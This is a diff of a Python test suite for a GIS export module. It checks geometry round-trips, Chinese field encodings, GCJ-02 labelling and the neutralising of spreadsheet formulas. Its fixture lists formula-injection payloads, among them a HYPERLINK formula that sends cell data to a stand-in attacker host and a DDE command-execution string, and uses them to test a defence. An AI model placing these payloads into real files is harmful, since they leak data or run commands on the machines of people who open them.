@@ -1,22 +1,49 @@
-"""Every export format x CRS round-trips: geometry within 1 cm, attributes (Chinese) intact, CRS kept."""
+"""Every export format x CRS round-trips (geometry within 1 cm, Chinese attributes intact, CRS kept), and what a
+colleague's GIS, CAD or spreadsheet receives is unambiguous: flat Shapefile zips with readable field names, GeoPackage
+1.2 with an INTEGER-keyed metadata table, booleans as booleans, meaningful layer names, a DXF whose declared code
+page is its real one, GCJ-02 named as such, and never a spreadsheet formula."""
 
+import csv
 import io
 import json
+import re
 import sqlite3
 import zipfile
 
 import ezdxf
 import geopandas as gpd
 import numpy as np
+import openpyxl
+import pandas as pd
 import pyogrio
 import pytest
 import shapely
 
+from gis import importers as imp
 from gis.crs import gcj02_to_wgs84
-from gis.exporters import (TARGETS, ExportError, ExportMeta, csv_layer_bytes, dxf_bytes, export_layers, geojson_bytes,
-                           gpkg_bytes, kml_bytes, shapefile_field_names, shapefile_zip_bytes)
+from gis.exporters import (
+    GCJ02_NAME,
+    TARGETS,
+    ExportError,
+    ExportMeta,
+    csv_bytes,
+    csv_layer_bytes,
+    dxf_bytes,
+    export_layers,
+    geojson_bytes,
+    gpkg_bytes,
+    kml_bytes,
+    neutralise_cell,
+    shapefile_field_names,
+    shapefile_zip_bytes,
+    shapefiles_zip_bytes,
+    xlsx_bytes,
+    xlsx_layer_bytes,
+)
 
 META = ExportMeta(title="测试导出", exported="2026-11-26")
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
 
 
 @pytest.fixture
@@ -24,6 +51,17 @@ def layer(data):
     sp = data.subparks.iloc[:3].copy()
     sp["note_long_field_name"] = ["甲", "乙", "<b>丙</b>"]
     return sp
+
+
+@pytest.fixture
+def hostile(data):
+    """Parcels whose text fields start like formulas, with a negative number and a boolean column."""
+    gdf = data.parcels.iloc[: len(FORMULAS)].copy()
+    gdf["name_zh"] = FORMULAS
+    gdf["=evil_column"] = "x"
+    gdf["delta"] = -np.arange(len(FORMULAS), dtype=float) - 0.5
+    gdf["flag"] = pd.Series([True, False, None, True, True, False, None], index=gdf.index, dtype=object)
+    return gdf
 
 
 def _max_shift_m(a: gpd.GeoSeries, b: gpd.GeoSeries) -> float:
@@ -50,14 +88,44 @@ def test_geojson_gpkg_round_trip(layer, target, tmp_path):
     assert json.loads(geojson_bytes(layer, meta=META, target=target))["metadata"]["title"] == "测试导出"
 
 
-def test_gpkg_several_layers_and_metadata_table(data, tmp_path):
+def test_gpkg_is_version_1_2_with_an_integer_keyed_metadata_table(data, tmp_path):
     raw = gpkg_bytes({"subparks": data.subparks, "stations": data.stations}, meta=META, target="cgcs2000_gk120")
     path = tmp_path / "x.gpkg"
     path.write_bytes(raw)
-    assert {n for n, _ in pyogrio.list_layers(path)} >= {"subparks", "stations"}
+    assert {n for n, _ in pyogrio.list_layers(path)} >= {"subparks", "stations", "export_metadata"}
     with sqlite3.connect(path) as con:
         meta = dict(con.execute("SELECT key, value FROM export_metadata").fetchall())
+        columns = {r[1]: (r[2], r[5]) for r in con.execute("PRAGMA table_info(export_metadata)")}
+        version = con.execute("PRAGMA user_version").fetchone()[0]
+        app_id = con.execute("PRAGMA application_id").fetchone()[0]
+        kind = con.execute("SELECT data_type FROM gpkg_contents WHERE table_name = 'export_metadata'").fetchone()[0]
+    con.close()
     assert meta["crs"].startswith("CGCS2000 / 3-degree") and meta["title"] == "测试导出"
+    assert columns["id"] == ("INTEGER", 1)  # GeoPackage requirement 119: an INTEGER primary key
+    assert version == 10200 and app_id == 0x47504B47 and kind == "attributes"  # GeoPackage 1.2, not 1.4
+
+
+def test_booleans_stay_booleans(hostile, tmp_path):
+    layer = hostile[["flag", "geometry"]]
+    gp = tmp_path / "b.gpkg"
+    gp.write_bytes(gpkg_bytes({"p": layer}))
+    with sqlite3.connect(gp) as con:
+        assert dict((r[1], r[2]) for r in con.execute("PRAGMA table_info(p)"))["flag"] == "BOOLEAN"
+    con.close()
+    assert [f["properties"]["flag"] for f in json.loads(geojson_bytes(layer))["features"]] == \
+        [True, False, None, True, True, False, None]
+    shp = _read(shapefile_zip_bytes(layer, name="p"), ".shp.zip", tmp_path)
+    info = pyogrio.read_info(tmp_path / "f.shp.zip")
+    assert dict(zip(info["fields"], info["ogr_subtypes"]))["flag"] == "OFSTBoolean"
+    assert shp["flag"].dropna().tolist() == [True, False, True, True, False]
+
+
+def test_layers_inside_files_have_meaningful_names(layer, tmp_path):
+    assert json.loads(geojson_bytes(layer, name="subparks"))["name"] == "subparks"
+    (tmp_path / "x.kml").write_bytes(kml_bytes(layer, name="subparks"))
+    assert [n for n, _ in pyogrio.list_layers(tmp_path / "x.kml")] == ["subparks"]
+    raw, _, _ = export_layers({"subparks": layer}, fmt="geojson", target="wgs84", meta=META)
+    assert json.loads(raw)["name"] == "subparks"
 
 
 @pytest.mark.parametrize("encoding", ["UTF-8", "GBK"])
@@ -68,7 +136,8 @@ def test_zipped_shapefile_encodings_prj_cpg_and_field_names(layer, encoding, tmp
         assert {"subparks.shp", "subparks.shx", "subparks.dbf", "subparks.prj", "subparks.cpg",
                 "fields.csv", "metadata.txt"} <= names
         assert zf.read("subparks.cpg").decode().strip() == encoding
-        mapping = dict(line.split(",")[::-1] for line in zf.read("fields.csv").decode().splitlines()[1:])
+        rows = list(csv.DictReader(io.StringIO(zf.read("fields.csv").decode("utf-8-sig"))))
+    mapping = {r["full_name"]: r["shapefile_field"] for r in rows}
     back = _read(raw, ".shp.zip", tmp_path)
     assert back.crs.to_epsg() == 4549
     assert back[mapping["name_zh"]].tolist() == layer["name_zh"].tolist()  # Chinese survives both encodings
@@ -80,11 +149,48 @@ def test_zipped_shapefile_encodings_prj_cpg_and_field_names(layer, encoding, tmp
         assert layer["name_zh"].iloc[0].encode("gbk") in dbf
 
 
-def test_shapefile_field_name_mapping_is_unique_and_short():
-    m = shapefile_field_names(["declared_area_km2", "declared_area_m2", "name_zh", "名称", "x" * 30])
-    assert all(len(v) <= 10 for v in m.values()) and len(set(v.lower() for v in m.values())) == 5
-    assert m["name_zh"] == "name_zh" and m["declared_area_km2"] == "declared_a"
-    assert m["declared_area_m2"] == "declared_2"
+def test_shapefile_field_names_are_cut_by_bytes_readable_and_unique():
+    cols = ["declared_area_km2", "declared_area_m2", "name_zh", "名称", "x" * 30, "规划用途说明", "规划用地面积",
+            "用地 性质（现状）", "2024年人口"]
+    for encoding, limit_bytes in (("UTF-8", 10), ("GBK", 10)):
+        m = shapefile_field_names(cols, encoding=encoding)
+        values = list(m.values())
+        assert all(len(v.encode(encoding)) <= limit_bytes for v in values)
+        assert len({v.lower() for v in values}) == len(cols)
+        assert not any("__" in v or v.startswith("_") or v.endswith("_") for v in values)
+        assert m["name_zh"] == "name_zh" and m["declared_area_km2"] == "declared_a"
+        assert m["declared_area_m2"] == "declared_2" and m["名称"] == "名称"
+    assert shapefile_field_names(cols, encoding="UTF-8")["规划用途说明"] == "规划用"
+    assert shapefile_field_names(cols, encoding="GBK")["规划用途说明"] == "规划用途说"
+    assert shapefile_field_names(cols, encoding="GBK")["规划用地面积"] == "规划用地面"
+    assert shapefile_field_names(cols, encoding="UTF-8")["规划用地面积"] == "规划_2"  # 规划用 is taken
+    assert shapefile_field_names(cols, encoding="UTF-8")["用地 性质（现状）"] == "用地_性"
+    assert shapefile_field_names(cols, encoding="UTF-8")["2024年人口"] == "f2024年"
+
+
+@pytest.mark.parametrize("encoding", ["UTF-8", "GBK"])
+def test_full_field_names_survive_a_round_trip_through_fields_csv(encoding):
+    gdf = gpd.GeoDataFrame({"规划用途说明": ["研发"], "规划用地面积": [1.5], "intended_use_long_name": ["x"]},
+                           geometry=[shapely.box(121.39, 31.25, 121.395, 31.255)], crs="EPSG:4326")
+    raw = shapefile_zip_bytes(gdf, name="地块", encoding=encoding)
+    back = imp.read_upload("地块.shp.zip", raw)
+    assert back.columns == ["规划用途说明", "规划用地面积", "intended_use_long_name"]
+    assert back.gdf["规划用途说明"].tolist() == ["研发"] and back.layer == "地块"
+    assert any(n.code == "imp_note_fields_restored" for n in back.notes)
+
+
+def test_several_shapefiles_are_one_flat_zip_the_importer_reads(data):
+    raw, name, mime = export_layers({"subparks": data.subparks, "stations": data.stations}, fmt="shp",
+                                    target="wgs84", meta=META)
+    assert name.endswith(".shp.zip") and mime == "application/zip"
+    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
+        names = zf.namelist()
+    assert not [n for n in names if n.endswith(".zip") or "/" in n]  # no zip inside the zip, no folders
+    assert {"subparks.shp", "subparks.dbf", "stations.shp", "stations.dbf", "fields.csv", "metadata.txt"} <= set(names)
+    first = imp.read_upload(name, raw, expect="any")
+    assert first.layers == ["subparks", "stations"] and len(first.gdf) == len(data.subparks)
+    stations = imp.read_upload(name, raw, layer="stations", expect="point")
+    assert len(stations.gdf) == len(data.stations) and "name_zh" in stations.columns
 
 
 def test_kml_round_trip_and_gcj02(layer, tmp_path):
@@ -92,7 +198,7 @@ def test_kml_round_trip_and_gcj02(layer, tmp_path):
     assert back["Name"].tolist() == layer["name_zh"].tolist() and back.crs.to_epsg() == 4326
     assert _max_shift_m(back.geometry.force_2d(), layer.geometry) < 0.01
     raw = kml_bytes(layer, target="gcj02", meta=META)
-    assert b"<description>title: " in raw
+    assert b"<description>title: " in raw and GCJ02_NAME.encode() in raw
     shifted = _read(raw, ".kml", tmp_path).geometry.force_2d()
     assert 400 < _max_shift_m(shifted, layer.geometry) < 600  # AMap-ready coordinates
     x, y = shapely.get_coordinates(shifted.iloc[0]).T
@@ -102,22 +208,60 @@ def test_kml_round_trip_and_gcj02(layer, tmp_path):
         kml_bytes(layer, target="cgcs2000_gk120")
 
 
-def test_dxf_layers_text_and_chinese(data, tmp_path):
-    raw = dxf_bytes({"subparks": data.subparks, "stations": data.stations}, meta=META)
+def test_gcj02_exports_are_unmistakable(layer, tmp_path):
+    gp = tmp_path / "g.gpkg"
+    gp.write_bytes(gpkg_bytes({"subparks": layer}, meta=META, target="gcj02"))
+    with sqlite3.connect(gp) as con:
+        srs_name, srs_id, org = con.execute(
+            "SELECT s.srs_name, s.srs_id, s.organization FROM gpkg_geometry_columns g JOIN gpkg_spatial_ref_sys s "
+            "ON s.srs_id = g.srs_id WHERE g.table_name = 'subparks'").fetchone()
+        crs_line = con.execute("SELECT value FROM export_metadata WHERE key = 'crs'").fetchone()[0]
+    con.close()
+    assert srs_name == GCJ02_NAME and srs_id != 4326 and org != "EPSG"
+    assert gpd.read_file(gp).crs.name == GCJ02_NAME and gpd.read_file(gp).crs.to_epsg() is None
+    assert "GCJ-02" in crs_line and "NOT WGS 84" in crs_line
+    with zipfile.ZipFile(io.BytesIO(shapefile_zip_bytes(layer, name="subparks", target="gcj02", meta=META))) as zf:
+        prj = zf.read("subparks.prj").decode("utf-8")
+        assert "GCJ-02" in zf.read("metadata.txt").decode("utf-8")
+    assert prj.startswith(f'GEOGCS["{GCJ02_NAME}"') and "4326" not in prj
+    assert "GCJ-02" in json.loads(geojson_bytes(layer, target="gcj02"))["coordinate_system"]
+    for fmt in ("geojson", "gpkg", "shp", "kml", "dxf", "csv_wkt"):
+        assert "GCJ-02" in export_layers({"subparks": layer}, fmt=fmt, target="gcj02", meta=META)[1]
+    assert "GCJ" not in export_layers({"subparks": layer}, fmt="gpkg", target="wgs84", meta=META)[1]
+
+
+def test_dxf_declares_its_real_code_page_and_a_chinese_font(data, tmp_path):
+    raw = dxf_bytes({"subparks": data.subparks, "stations": data.stations}, meta=META,
+                    layer_names={"subparks": "子园", "stations": "地铁站"})
+    text = raw.decode("gbk")
+    assert re.search(r"\$ACADVER\s+1\s+AC1018", text) and re.search(r"\$DWGCODEPAGE\s+3\s+ANSI_936", text)
+    assert "桃浦智创城".encode("gbk") in raw  # the bytes are GBK, as declared
     path = tmp_path / "x.dxf"
     path.write_bytes(raw)
     doc = ezdxf.readfile(path)
     msp = doc.modelspace()
-    assert {"subparks", "stations", "METADATA"} <= {layer.dxf.name for layer in doc.layers}
-    texts = {t.dxf.text for t in msp.query("TEXT[layer=='subparks']")}
-    assert set(data.subparks["name_zh"]) <= texts  # Chinese names survive as text entities
-    polys = msp.query("LWPOLYLINE[layer=='subparks']")
-    assert len(polys) >= len(data.subparks) and len(msp.query("POINT[layer=='stations']")) == len(data.stations)
+    assert {"子园", "地铁站", "METADATA"} <= {lyr.dxf.name for lyr in doc.layers}
+    style = doc.styles.get("PUTUO_CJK")
+    assert style.dxf.bigfont == "gbcbig.shx" and doc.header["$TEXTSTYLE"] == "PUTUO_CJK"
+    texts = list(msp.query("TEXT[layer=='子园']"))
+    assert set(data.subparks["name_zh"]) <= {t.dxf.text for t in texts}
+    assert {t.dxf.style for t in texts} == {"PUTUO_CJK"}
+    polys = msp.query("LWPOLYLINE[layer=='子园']")
+    assert len(polys) >= len(data.subparks) and len(msp.query("POINT[layer=='地铁站']")) == len(data.stations)
     x, y = list(polys)[0].get_points("xy")[0]
     assert 500_000 < x < 700_000 and 3_400_000 < y < 3_500_000  # metres in EPSG:4549
-    # GDAL reads it too, and Chinese comes back intact when told the encoding
-    back = gpd.read_file(path, engine="pyogrio", encoding="UTF-8")
-    assert len(back) > 0
+    # GDAL (QGIS) reads Chinese from the declared code page alone: no DXF_ENCODING needed
+    back = pyogrio.read_dataframe(path)
+    assert "桃浦智创城" in set(back["Text"]) and "子园" in set(back["Layer"])
+
+
+def test_dxf_text_is_one_line_and_survives_odd_characters(tmp_path):
+    gdf = gpd.GeoDataFrame({"name_zh": ["第一行\n第二行", "emoji 😀", "∑ é"]},
+                           geometry=[shapely.Point(121.39, 31.25)] * 3, crs="EPSG:4326")
+    path = tmp_path / "o.dxf"
+    path.write_bytes(dxf_bytes({"p": gdf}))
+    texts = [e.dxf.text for e in ezdxf.readfile(path).modelspace().query("TEXT")]
+    assert texts == ["第一行 第二行", "emoji ?", "∑ é"]
 
 
 @pytest.mark.parametrize("geometry", ["wkt", "xy"])
@@ -140,14 +284,88 @@ def test_csv_round_trip(layer, geometry, tmp_path):
 def test_export_layers_bundles_and_errors(data):
     raw, name, mime = export_layers({"subparks": data.subparks, "stations": data.stations}, fmt="geojson",
                                     target="wgs84", meta=META)
-    assert name.endswith(".zip") and mime == "application/zip"
+    assert name == "putuo_subparks_stations_wgs84.zip" and mime == "application/zip"
     with zipfile.ZipFile(io.BytesIO(raw)) as zf:
         assert sorted(zf.namelist()) == ["stations.geojson", "subparks.geojson"]
     one, name, mime = export_layers({"subparks": data.subparks}, fmt="kml", target="gcj02", meta=META)
-    assert name.endswith(".kml") and one.startswith(b"<?xml")
+    assert name == "putuo_subparks_GCJ-02_AMap_not_WGS84.kml" and one.startswith(b"<?xml")
     with pytest.raises(ExportError, match="Unknown format"):
         export_layers({"subparks": data.subparks}, fmt="mif", target="wgs84", meta=META)
     with pytest.raises(ExportError, match="No layer"):
         export_layers({}, fmt="gpkg", target="wgs84", meta=META)
-    with pytest.raises(ExportError, match="Unknown target"):
+    with pytest.raises(ExportError, match="Unknown target CRS utm51") as info:
         export_layers({"subparks": data.subparks}, fmt="gpkg", target="utm51", meta=META)
+    assert "未知的目标坐标系" in info.value.text("zh")
+
+
+# --- never a formula ------------------------------------------------------------------------------------------------
+def _csv_rows(raw: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def _csv_cells(raw: bytes) -> list[str]:
+    return [cell for row in _csv_rows(raw) for cell in row]
+
+
+def _assert_no_formula_csv(raw: bytes) -> None:
+    cells = _csv_cells(raw)
+    assert cells
+    bad = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or
+           (c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c))]
+    assert not bad, bad
+
+
+def _assert_no_formula_xlsx(raw: bytes) -> None:
+    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)
+    wb = openpyxl.load_workbook(io.BytesIO(raw))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+
+
+def test_neutralise_cell_changes_only_text_that_starts_like_a_formula():
+    assert [neutralise_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
+    assert neutralise_cell(-5) == -5 and neutralise_cell(-0.5) == -0.5 and neutralise_cell("名称") == "名称"
+    assert neutralise_cell(True) is True and neutralise_cell(None) is None
+
+
+def test_no_export_path_writes_a_formula(hostile, tmp_path):
+    table = pd.DataFrame(hostile.drop(columns="geometry"))
+    _assert_no_formula_csv(csv_bytes(table))
+    _assert_no_formula_csv(csv_layer_bytes(hostile, geometry="wkt"))
+    _assert_no_formula_csv(csv_layer_bytes(hostile, geometry="xy", target="cgcs2000_gk120"))
+    _assert_no_formula_xlsx(xlsx_bytes(table, sheet="排名"))
+    _assert_no_formula_xlsx(xlsx_layer_bytes(hostile))
+    raw, _, _ = export_layers({"a": hostile, "b": hostile}, fmt="csv_wkt", target="wgs84", meta=META)
+    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
+        for name in zf.namelist():
+            _assert_no_formula_csv(zf.read(name))
+    renamed = hostile.rename(columns={"name_zh": "=HYPERLINK(\"x\")"})
+    with zipfile.ZipFile(io.BytesIO(shapefiles_zip_bytes({"p": renamed}))) as zf:
+        _assert_no_formula_csv(zf.read("fields.csv"))
+
+
+def test_spreadsheet_text_is_kept_and_numbers_stay_numbers(hostile):
+    table = pd.DataFrame(hostile.drop(columns="geometry"))
+    header, *rows = _csv_rows(csv_bytes(table))
+    assert [r[header.index("name_zh")] for r in rows] == ["'" + v for v in FORMULAS]
+    assert [float(r[header.index("delta")]) for r in rows] == table["delta"].tolist()  # negatives stay numbers
+    assert "'=evil_column" in header
+    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, sheet="排名")))
+    ws = wb.active
+    header = [c.value for c in ws[1]]
+    name_col, delta_col = header.index("name_zh"), header.index("delta")
+    rows = list(ws.iter_rows(min_row=2))
+    assert [r[name_col].value for r in rows] == FORMULAS  # text kept exactly, as a string cell
+    assert all(r[name_col].data_type == "s" and r[name_col].quotePrefix for r in rows)
+    assert [r[delta_col].value for r in rows] == table["delta"].tolist()
+    assert {r[delta_col].data_type for r in rows} == {"n"}
+    assert "=evil_column" in header
+
+
+def test_xlsx_drops_characters_a_workbook_cannot_hold():
+    raw = xlsx_bytes(pd.DataFrame({"a": ["bell\x07 here", "ok"]}), sheet="a/b:c")
+    wb = openpyxl.load_workbook(io.BytesIO(raw))
+    assert wb.sheetnames == ["a_b_c"] and wb.active["A2"].value == "bell here"
